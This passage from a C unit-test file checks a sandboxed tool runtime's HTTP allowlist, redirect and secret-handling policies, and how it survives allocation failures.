    assert_int_equal(jpt_state_render(st, NULL, &text), JPT_OK);
    assert_non_null(strstr(text, "The tool read none of the "));
    jpt_free(text);
    jpt_state_unref(st);
    jpt_vfs_host_free(h);
    free(sandbox);
    free(params);
}

/* ---- Allocation failure (issue 18) ------------------------------------------------ */

/* http.get through the registry's "vfs" runtime: an allowed URL fetched,
 * one not listed denied (no policy handler). The server's Date header,
 * which changes by the second, is blanked. */
static int http_path(char **out)
{
    jpt_registry_options o = {.size = sizeof(o), .root = root, .kill_grace_ms = 200,
                              .containment = JPT_CONTAIN_SESSION,
                              .sandbox_mode = tu_sandbox_mode()};
    char tools[1024], calls[1024];

    snprintf(tools, sizeof(tools), "%s",
             fmt("{'tools':[{'name':'probe','runtime':'vfs','command':['%s'],"
                 "'parameters':{'type':'object'},"
                 "'sandbox':{'network':{'allow':['http://127.0.0.1:$P/hello']}}}]}",
                 PROBE));
    snprintf(calls, sizeof(calls), "%s",
             fmt("[{'id':'c1','name':'probe','arguments':{'ops':["
                 "{'method':'http.get','params':{'url':'http://127.0.0.1:$P/hello'}},"
                 "{'method':'http.get','params':{'url':'http://x.invalid/'}}]}}]"));
    int rc = ru_run_path(&o, tools, calls, out);
    static const char date[] = "\\\"name\\\":\\\"Date\\\",\\\"value\\\":\\\"";
    for (char *d = rc == JPT_OK ? strstr(*out, date) : NULL; d != NULL; d = strstr(d + 1, date))
        for (char *v = d + sizeof(date) - 1; *v != '\0' && *v != '\\'; v++)
            *v = 'x';
    return rc;
}

static void http_get_survives_every_allocation_failure(void **state)
{
    (void)state;
    ru_sweep("http.get", http_path, false);
}

static void http_get_survives_each_single_allocation_failure(void **state)
{
    (void)state;
    ru_sweep("http.get", http_path, true);
}

int main(void)
{
    /* Before any jptool call: the sweeps count the library's blocks. */
    tu_install_counting_allocator();

    const struct CMUnitTest tests[] = {
        cmocka_unit_test(an_allowed_url_is_fetched),
        cmocka_unit_test(paths_match_by_whole_segments),
        cmocka_unit_test(a_host_not_listed_is_asked_or_denied),
        cmocka_unit_test(a_url_is_not_resolved_before_the_policy_allows_it),
        cmocka_unit_test(allow_always_asks_once_per_url),
        cmocka_unit_test(userinfo_is_refused),
        cmocka_unit_test(ip_literals_and_localhost_only_when_listed),
        cmocka_unit_test(a_name_resolving_to_loopback_is_refused),
        cmocka_unit_test(a_name_resolving_to_this_machine_is_refused),
        cmocka_unit_test(address_classes_are_recognised),
        cmocka_unit_test(redirects_are_not_followed_by_default),
        cmocka_unit_test(each_redirect_hop_is_checked_again),
        cmocka_unit_test(a_redirected_post_follows_the_status),
        cmocka_unit_test(a_response_over_the_size_limit_is_stopped),
        cmocka_unit_test(a_server_that_never_answers_times_out),
        cmocka_unit_test(tls_verification_is_always_on),
        cmocka_unit_test(a_header_variable_is_substituted_and_never_shown),
        cmocka_unit_test(credentials_stay_with_their_origin),
        cmocka_unit_test(a_variable_not_allowed_is_an_error_naming_it),
        cmocka_unit_test(a_secret_goes_only_where_an_entry_naming_it_covers),
        cmocka_unit_test(an_asked_url_gets_no_secret),
        cmocka_unit_test(a_redirect_hop_carries_only_what_its_entry_names),
        cmocka_unit_test(a_reflected_secret_reaches_the_tool_in_no_form),
        cmocka_unit_test(a_value_kept_by_the_server_is_scrubbed_later),
        cmocka_unit_test(paths_are_matched_as_the_server_reads_them),
        cmocka_unit_test(a_binary_body_comes_as_base64),
        cmocka_unit_test(a_post_sends_its_body_and_only_the_headers_written),
        cmocka_unit_test(bad_headers_are_refused),
        cmocka_unit_test(fifty_transfers_at_once_while_files_are_served),
        cmocka_unit_test(a_session_runs_at_most_64_transfers_at_once),
        cmocka_unit_test(a_registry_vfs_tool_fetches),
        cmocka_unit_test(transfers_never_read_stay_within_the_budget),
        cmocka_unit_test(http_get_survives_every_allocation_failure),
        cmocka_unit_test(http_get_survives_each_single_allocation_failure),
    };
    return tu_hygiene_end((tu_hygiene_begin(), cmocka_run_group_tests(tests, setup, teardown)));
}
